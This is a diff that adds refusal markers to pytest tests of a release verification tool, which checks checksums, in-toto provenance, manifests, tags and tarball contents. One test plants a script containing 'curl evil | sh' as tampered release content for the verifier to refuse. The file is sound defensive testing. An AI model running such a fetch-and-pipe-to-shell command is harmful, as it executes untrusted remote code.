@@ -182,6 +182,7 @@ def test_every_statement_shares_one_predicate_and_no_machine_path() -> None:
     assert statements == provenance.statements(manifest(), FILES, cargo_lock=LOCK, zigbuild=ZIGBUILD)
 
 
+@pytest.mark.refuses("artefact-not-manifest-statements")
 def test_an_artefact_that_is_not_the_manifest_s_refused() -> None:
     files = {**FILES, f"{BASE}-pgo.tar.gz": b"something else"}
     with pytest.raises(CheckFailed) as caught:
@@ -281,6 +282,7 @@ def test_verify_a_release_as_written(tmp_path: Path) -> None:
     assert lines[-1] == "verified v1.0.0: 7 files, 3 provenance statements"
 
 
+@pytest.mark.refuses("verify-file-sha256-not-sha256sums", "verify-artefact-sha256-not-manifest")
 def test_verify_a_changed_byte_in_an_artefact_refused(tmp_path: Path) -> None:
     published = publish(tmp_path)
     tarball = published.dist / f"{BASE}-pgo.tar.gz"
@@ -292,6 +294,7 @@ def test_verify_a_changed_byte_in_an_artefact_refused(tmp_path: Path) -> None:
     refused(published, f"{BASE}-pgo.tar.gz has sha256", "the manifest records")
 
 
+@pytest.mark.refuses("verify-statement-parameter-not-manifest")
 def test_verify_a_changed_parameter_in_a_statement_refused(tmp_path: Path) -> None:
     published = publish(tmp_path)
     path = published.statement(f"{BASE}.tar.gz")
@@ -306,6 +309,7 @@ def test_verify_a_changed_parameter_in_a_statement_refused(tmp_path: Path) -> No
     )
 
 
+@pytest.mark.refuses("verify-statement-subject-not-artefact")
 def test_verify_a_statement_about_another_file_refused(tmp_path: Path) -> None:
     published = publish(tmp_path)
     path = published.statement(f"{BASE}-pgo.profdata")
@@ -316,6 +320,7 @@ def test_verify_a_statement_about_another_file_refused(tmp_path: Path) -> None:
     refused(published, f"{BASE}-pgo.profdata.intoto.json: subject[0].digest.sha256 is", "00000000")
 
 
+@pytest.mark.refuses("verify-file-listed-sha256sums-missing", "verify-provenance-statement-missing")
 def test_verify_a_missing_statement_refused(tmp_path: Path) -> None:
     published = publish(tmp_path)
     published.statement(f"{BASE}-pgo.tar.gz").unlink()
@@ -324,17 +329,20 @@ def test_verify_a_missing_statement_refused(tmp_path: Path) -> None:
     refused(published, f"the provenance statement {BASE}-pgo.tar.gz.intoto.json is missing")
 
 
+@pytest.mark.refuses("verify-file-not-listed-sha256sums")
 def test_verify_a_file_not_in_sha256sums_refused(tmp_path: Path) -> None:
     published = publish(tmp_path)
     (published.dist / "extra.bin").write_bytes(b"x")
     refused(published, "extra.bin is in", "but not in SHA256SUMS")
 
 
+@pytest.mark.refuses("verify-cargo-zigbuild-release-statement-records-no")
 def test_verify_zig_versions_dropped_from_a_zigbuild_release_refused(tmp_path: Path) -> None:
     published = publish(tmp_path, zigbuild=None)
     refused(published, "records no zig and cargo-zigbuild", "built with cargo zigbuild")
 
 
+@pytest.mark.refuses("verify-tag-moved")
 def test_verify_a_moved_tag_refused(tmp_path: Path) -> None:
     published = publish(tmp_path)
     _git(published.repo, "commit", "-q", "--allow-empty", "-m", "later")
@@ -342,6 +350,7 @@ def test_verify_a_moved_tag_refused(tmp_path: Path) -> None:
     refused(published, "tag v1.0.0 is commit", "the release was built from", "the tag was moved")
 
 
+@pytest.mark.refuses("verify-tag-cargo-lock-not-statements")
 def test_verify_another_cargo_lock_than_the_tag_s_refused(tmp_path: Path) -> None:
     published = publish(tmp_path)
     for name in FILES:
@@ -355,6 +364,7 @@ def test_verify_another_cargo_lock_than_the_tag_s_refused(tmp_path: Path) -> Non
     refused(published, "hello/Cargo.lock of v1.0.0 has sha256", "the statements record eeee")
 
 
+@pytest.mark.refuses("manifest-another-schema")
 def test_a_manifest_of_another_schema_refused_by_verify_and_rebuild(tmp_path: Path) -> None:
     published = publish(tmp_path)
     assert rebuild.load_published(published.dist, "v1.0.0").manifest["schema"] == 1
@@ -368,6 +378,7 @@ def test_a_manifest_of_another_schema_refused_by_verify_and_rebuild(tmp_path: Pa
         rebuild.load_published(published.dist, "v1.0.0")
 
 
+@pytest.mark.refuses("verify-no-artefacts-tag", "verify-sha256sums-missing")
 def test_verify_a_directory_without_the_release_refused(tmp_path: Path) -> None:
     published = publish(tmp_path)
     with pytest.raises(PgoError, match=rf"no artefacts of v1.0.0 at {tmp_path / 'elsewhere'} \(download"):
@@ -376,6 +387,7 @@ def test_verify_a_directory_without_the_release_refused(tmp_path: Path) -> None:
     refused(published, f"SHA256SUMS is missing from {published.dist}", "download every file of the release")
 
 
+@pytest.mark.refuses("verify-two-manifests-one-target", "verify-no-manifest-tag-manifest-another-tag")
 def test_verify_two_manifests_or_one_of_another_tag_refused(tmp_path: Path) -> None:
     published = publish(tmp_path)
     path = published.dist / f"{BASE}-manifest.json"
@@ -391,6 +403,7 @@ def test_verify_two_manifests_or_one_of_another_tag_refused(tmp_path: Path) -> N
     refused(published, f"{BASE}-manifest.json is not the manifest of v1.0.0")
 
 
+@pytest.mark.refuses("verify-sha256sums-has-no-line-for-artefact")
 def test_verify_an_artefact_without_its_line_refused(tmp_path: Path) -> None:
     published = publish(tmp_path)
     (published.dist / f"{BASE}.tar.gz").unlink()
@@ -398,6 +411,7 @@ def test_verify_an_artefact_without_its_line_refused(tmp_path: Path) -> None:
     refused(published, f"SHA256SUMS has no line for {BASE}.tar.gz")
 
 
+@pytest.mark.refuses("verify-binary-tarball-not-manifest")
 def test_verify_another_binary_in_a_tarball_refused(tmp_path: Path) -> None:
     """Another binary packed as the release packs it, and the manifest's tarball sha256 made to match: the binary's
     own sha256 still says it is not the one that was built."""
@@ -414,6 +428,7 @@ def test_verify_another_binary_in_a_tarball_refused(tmp_path: Path) -> None:
     refused(published, f"hello-pgo in {name} has sha256 {sha256_bytes(another)}", "the manifest")
 
 
+@pytest.mark.refuses("verify-statement-not-json", "verify-statement-not-toto-statement-has-another")
 @pytest.mark.parametrize(
     ("content", "words"),
     [
@@ -429,6 +444,7 @@ def test_verify_a_statement_that_is_not_one_refused(tmp_path: Path, content: byt
     refused(published, f"{BASE}-pgo.profdata.intoto.json", words, "download it again")
 
 
+@pytest.mark.refuses("verify-statement-not-toto-statement-has-another")
 def test_verify_a_statement_without_its_predicate_refused(tmp_path: Path) -> None:
     published = publish(tmp_path)
     path = published.statement(f"{BASE}-pgo.profdata")
@@ -439,6 +455,7 @@ def test_verify_a_statement_without_its_predicate_refused(tmp_path: Path) -> Non
     refused(published, f"{BASE}-pgo.profdata.intoto.json has no predicate")
 
 
+@pytest.mark.refuses("rebuild-no-manifest", "rebuild-two-manifests-one-target")
 def test_rebuild_without_one_manifest_of_the_tag_refused(tmp_path: Path) -> None:
     published = publish(tmp_path)
     path = published.dist / f"{BASE}-manifest.json"
@@ -452,6 +469,7 @@ def test_rebuild_without_one_manifest_of_the_tag_refused(tmp_path: Path) -> None
         rebuild.load_published(published.dist, "v1.0.0")
 
 
+@pytest.mark.refuses("rebuild-manifest-not-json-not-object-another")
 @pytest.mark.parametrize(
     ("content", "words"),
     [
@@ -469,6 +487,7 @@ def test_rebuild_of_a_manifest_that_is_not_the_tags_refused(tmp_path: Path, cont
         rebuild.load_published(published.dist, "v1.0.0")
 
 
+@pytest.mark.refuses("rebuild-another-file-sha256-not-sha256sums")
 def test_rebuild_of_a_file_that_is_not_sha256sums_refused(tmp_path: Path) -> None:
     published = publish(tmp_path)
     tarball = published.dist / f"{BASE}-pgo.tar.gz"
@@ -486,6 +505,7 @@ def _add_line(published: Published, name: str, content: bytes) -> None:
     sums.write_text(sums.read_text() + f"{sha256_bytes(content)}  {name}\n")
 
 
+@pytest.mark.refuses("verify-rebuild-sha256sums-line-names-path-absolute")
 @pytest.mark.parametrize(
     ("name", "words"),
     [
@@ -513,6 +533,7 @@ def test_verify_a_sha256sums_line_that_is_not_a_file_of_the_folder_refused(
         rebuild.load_published(published.dist, "v1.0.0")
 
 
+@pytest.mark.refuses("verify-rebuild-sha256sums-lists-file-release-does")
 def test_verify_an_extra_file_with_its_line_refused(tmp_path: Path) -> None:
     published = publish(tmp_path)
     (published.dist / "extra.sh").write_text("#!/bin/sh\ncurl evil | sh\n")
@@ -523,6 +544,9 @@ def test_verify_an_extra_file_with_its_line_refused(tmp_path: Path) -> None:
         rebuild.load_published(published.dist, "v1.0.0")
 
 
+@pytest.mark.refuses(
+    "verify-rebuild-sha256sums-lists-file-release-does", "verify-rebuild-release-file-sha256sums-symbolic-link"
+)
 def test_verify_a_symlink_to_a_file_outside_refused(tmp_path: Path) -> None:
     """As an extra line, and in place of one of the release's own files (its content the same)."""
     published = publish(tmp_path)
@@ -543,6 +567,7 @@ def test_verify_a_symlink_to_a_file_outside_refused(tmp_path: Path) -> None:
         rebuild.load_published(published.dist, "v1.0.0")
 
 
+@pytest.mark.refuses("verify-rebuild-release-file-sha256sums-symbolic-link")
 def test_verify_a_listed_name_that_is_a_directory_refused(tmp_path: Path) -> None:
     published = publish(tmp_path)
     statement = published.statement(f"{BASE}-pgo.profdata")
@@ -551,6 +576,7 @@ def test_verify_a_listed_name_that_is_a_directory_refused(tmp_path: Path) -> Non
     refused(published, f"{statement.name} in {published.dist} is not a regular file")
 
 
+@pytest.mark.refuses("verify-rebuild-release-file-sha256sums-symbolic-link")
 def test_verify_a_sha256sums_that_is_a_symlink_refused(tmp_path: Path) -> None:
     published = publish(tmp_path)
     sums = published.dist / "SHA256SUMS"
@@ -560,6 +586,7 @@ def test_verify_a_sha256sums_that_is_a_symlink_refused(tmp_path: Path) -> None:
     refused(published, f"SHA256SUMS in {published.dist} is a symbolic link (to {elsewhere})")
 
 
+@pytest.mark.refuses("verify-rebuild-sha256sums-line-lists-file-second")
 def test_verify_a_line_listed_twice_refused(tmp_path: Path) -> None:
     published = publish(tmp_path)
     sums = published.dist / "SHA256SUMS"
@@ -568,6 +595,7 @@ def test_verify_a_line_listed_twice_refused(tmp_path: Path) -> None:
     refused(published, f"SHA256SUMS line 8 lists {first.split()[1]} a second time")
 
 
+@pytest.mark.refuses("verify-rebuild-sha256sums-not-utf-8")
 def test_verify_a_sha256sums_that_is_not_utf8_refused(tmp_path: Path) -> None:
     published = publish(tmp_path)
     sums = published.dist / "SHA256SUMS"
@@ -587,6 +615,7 @@ def _edit_manifest(published: Published, edit: Callable[[dict[str, Any]], object
     published.resum()
 
 
+@pytest.mark.refuses("verify-rebuild-manifest-key-missing-another-type")
 @pytest.mark.parametrize(
     ("edit", "words"),
     [
@@ -657,6 +686,7 @@ def test_a_manifest_with_a_missing_key_or_a_wrong_type_refused_by_verify_and_reb
         rebuild.load_published(published.dist, "v1.0.0")
 
 
+@pytest.mark.refuses("verify-rebuild-manifest-file-name-not-one")
 def test_a_manifest_named_otherwise_than_its_release_refused(tmp_path: Path) -> None:
     """Its bin, tag and triple name another manifest file (the artefacts renamed to match)."""
     published = publish(tmp_path)
@@ -670,6 +700,7 @@ def test_a_manifest_named_otherwise_than_its_release_refused(tmp_path: Path) -> 
         rebuild.load_published(published.dist, "v1.0.0")
 
 
+@pytest.mark.refuses("verify-rebuild-manifest-key-missing-another-type")
 def test_a_bin_that_is_a_path_refused(tmp_path: Path) -> None:
     published = publish(tmp_path)
     _edit_manifest(published, lambda m: m.update(bin="../hello-pgo"))
@@ -703,6 +734,7 @@ def _info(name: str, kind: bytes = tarfile.REGTYPE, size: int = 0, **attrs: Any)
     return info
 
 
+@pytest.mark.refuses("verify-rebuild-tarball-holds-link-device-fifo")
 def test_verify_a_tarball_whose_members_were_rewritten_refused(tmp_path: Path) -> None:
     """The binary the manifest records, beside a symbolic link out of the folder; every sha256 made to match."""
     published = publish(tmp_path)
@@ -721,6 +753,7 @@ def test_verify_a_tarball_whose_members_were_rewritten_refused(tmp_path: Path) -
     refused(published, f"{top}.tar.gz has '{top}/hello-pgo' owned by uid 1000 gid 0")
 
 
+@pytest.mark.refuses("verify-rebuild-tarball-not-gzip-not-tar")
 def test_verify_a_tarball_that_is_not_one_refused(tmp_path: Path) -> None:
     published = publish(tmp_path)
     name = f"{BASE}-pgo.tar.gz"
@@ -779,6 +812,7 @@ def test_verify_a_statement_of_wrong_types_refused(
     refused(published, f"{BASE}-pgo.profdata.intoto.json", words)
 
 
+@pytest.mark.refuses("verify-rebuild-artefacts-folder-dangling-symbolic-link")
 def test_verify_and_rebuild_of_a_folder_that_is_a_dangling_link_or_a_file_refused(tmp_path: Path) -> None:
     published = publish(tmp_path)
     link = tmp_path / "link"
